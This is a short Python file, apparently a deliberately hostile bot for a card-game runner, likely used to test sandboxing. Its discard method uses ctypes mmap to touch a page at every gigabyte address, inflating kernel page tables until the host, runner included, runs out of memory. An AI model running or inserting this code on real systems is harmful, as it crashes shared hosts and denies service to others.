"""Takes one page of every gigabyte there is, so that the kernel's tables of them outgrow all else, the runner included."""

import ctypes

from player import *

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
FAILED = ctypes.c_void_p(-1).value


class Hostile(Plays):
    def choose_discard(self, view):
        for number in range(1, 120_000):
            page = LIBC.mmap(number << 30, 4096, 1, 0x100022, -1, 0)  # private, anonymous, exactly there
            if page == FAILED:
                raise MemoryError
            ctypes.string_at(page, 1)
        return super().choose_discard(view)
